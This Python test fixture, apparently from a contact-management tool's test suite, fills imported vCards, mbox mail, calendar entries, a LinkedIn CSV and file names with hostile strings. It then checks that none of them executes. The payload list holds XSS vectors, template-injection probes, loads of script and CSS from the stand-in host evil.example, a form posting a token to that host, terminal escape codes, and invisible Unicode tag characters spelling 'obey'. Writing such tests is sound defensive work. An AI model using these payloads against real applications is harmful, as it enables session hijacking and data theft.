"""A home of which every text was written by somebody hostile, by files and by hand.

Each person bears one payload in every field; a payload that runs sets `window.__fired`.
"""

import csv
import io
from pathlib import Path

from tests.operations.homes import Home
from tests.operations.letters import ME, calendar, card, cards, delivered, mail, mbox, meeting
from tests.operations.letters import sent_box as sent

RUN = "window.__fired=1"
AWAY = "//evil.example/x"
SUM, RESULT = "7191*7", "50337"
"""What a template would work out, and what it would show."""
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea></select></option></datalist><img src=x onerror={RUN}>",
    f"</style></script><script src={AWAY}.js></script>",
    f"javascript:{RUN}//",
    f"{{{{{SUM}}}}}{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% for x in range(3) %}}{SUM}{{% endfor %}}${{{SUM}}}#{{{SUM}}}<%={SUM}%>",
    f'" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' onmouseover='{RUN}' x='",
    f"<iframe srcdoc='<script>parent.__fired=1</script>'></iframe><object data={AWAY}>",
    f"<style>@import '{AWAY}.css';*{{background:url({AWAY}.png)}}</style>",
    f'" style="background:url({AWAY}.png);position:fixed;inset:0" x="',
    f"<link rel=stylesheet href={AWAY}.css><base href={AWAY}/>",
    f"<meta http-equiv=refresh content=0;url=http:{AWAY}>",
    f"<form action={AWAY}><input name=token><button>Go</button></form>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s /><a xlink:href='javascript:{RUN}'>x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"data:text/html,<script>{RUN}</script>",
    f"![x](http:{AWAY}.png) [go](javascript:{RUN}) <http:{AWAY}>",
    "Eve\u202eLIVE\u2066\u200b\u00ad\ufeff" + TAGS,
    "\x1b[2J\x1b]0;owned\x07\x9b31m\x85\u2028\u2029",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e",
)  # fmt: skip


def address(number: int) -> str:
    return f"p{number}@x.example"


def payload(number: int) -> str:
    return f"N{number} {PAYLOADS[number]}"


def escaped(text: str) -> str:
    flat = text.replace("\\", "\\\\").replace("\r", "").replace("\n", "\\n")
    return flat.replace(",", "\\,").replace(";", "\\;")


def contact(number: int) -> str:
    """Return a card with the payload in each of its fields."""
    text = escaped(payload(number))
    fields = ("ORG", "TITLE", "ROLE", "NICKNAME", "NOTE", "CATEGORIES", "URL", "X-SOCIALPROFILE",
              "UID", "TZ", "X-ABRELATEDNAMES", "X-CUSTOM", "IMPP", "SOURCE")  # fmt: skip
    return card(
        text, f"N:{text};{text};;;", f"EMAIL:{address(number)}", f"EMAIL:{text}@evil.example",
        f"TEL:{text}", f"ADR:;;{text};{text};{text};1;{text}", "BDAY:1980-11-22",
        *(f"{field}:{text}" for field in fields),
    )  # fmt: skip


def letters(number: int) -> tuple[str, str]:
    """Return a mail from somebody and mine back."""
    text = " ".join(payload(number).split())
    name = "".join(sign for sign in text if sign.isprintable()).replace("\\", "").replace('"', "'")
    more = f'{delivered()}Content-Type: text/plain; name="{name}"\nX-Mailer: {name}\n'
    came = mail(f'"{name}" <{address(number)}>', ME, f"2026-0{1 + number % 8}-10", subject=text,
                more=more, ref=f"{number}{name.replace(' ', '')[:40]}@x.example")  # fmt: skip
    back = mail(ME, f'"{name}" <{address(number)}>', f"2026-0{1 + number % 8}-12", subject=text)
    return came, back


def met(number: int) -> str:
    """Return an entry of a calendar with the payload in each of its fields."""
    text = escaped(payload(number)).replace("\x85", "").replace("\u2028", "").replace("\u2029", "")
    name = "".join(sign for sign in text if sign not in '":;,' and sign.isprintable())
    return meeting(
        f"e{number}{name}", f"2026110{1 + number % 8}T100000Z", f"SUMMARY:{text}",
        f"LOCATION:{text}", f"DESCRIPTION:{text}", f"CATEGORIES:{text}", f"URL:{text}",
        guests=(f"mailto:{ME}", f'CN="{name}":mailto:{address(number)}'),
    )  # fmt: skip


def connections() -> str:
    """Return connections as LinkedIn exports them."""
    text = io.StringIO(newline="")
    write = csv.writer(text).writerow
    write(
        ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]
    )
    for number in range(len(PAYLOADS)):
        word = " ".join(payload(number).replace("\0", "").split())
        link = f"https://www.linkedin.com/in/{word}"
        write([word, f"L{number}", link, f"l{number}@x.example", word, word, "20 Nov 2026"])
    return text.getvalue()


def write_files(folder: Path) -> list[Path]:
    """Write what is imported; the names of files carry payloads too."""
    count = range(len(PAYLOADS))
    both = [letters(number) for number in count]
    name = f"<img src=x onerror={RUN}>"
    (folder / "Connections.csv").write_text(connections(), encoding="utf-8", newline="")
    return [
        sent(folder / name, *(back for _, back in both)),
        mbox(folder / f"{name}.mbox", *(came for came, _ in both)),
        cards(folder / f"{name}{{{{{SUM}}}}}.vcf", *map(contact, count)),
        calendar(folder / f"'\"{name}.ics", *map(met, count)),
        folder / "Connections.csv",
    ]


def furnish(home: Home, folder: Path) -> None:
    """Import it all, and type payloads into whatever takes a text."""
    home.run("init", me=(ME,), name=f"Me {PAYLOADS[1]}", stage="seeker", yes=True)
    report = home.take(*write_files(folder))
    assert report.interactions >= 3 * len(PAYLOADS)
    for number in range(len(PAYLOADS)):
        type_in(home, number)


def type_in(home: Home, number: int) -> None:
    """Type a payload about somebody."""
    text, who = payload(number), address(number)
    home.run("log", who, met=True, gave=text, asked=text, received=text, note=text)
    home.run("met", f"New {number} {PAYLOADS[number]}", at=text)
    if text.isprintable():  # a tag refuses other signs
        home.run("tag", text[:40], who)
    home.run("key", who)
    home.run("plan", "set", "targets", text.replace(",", " "))
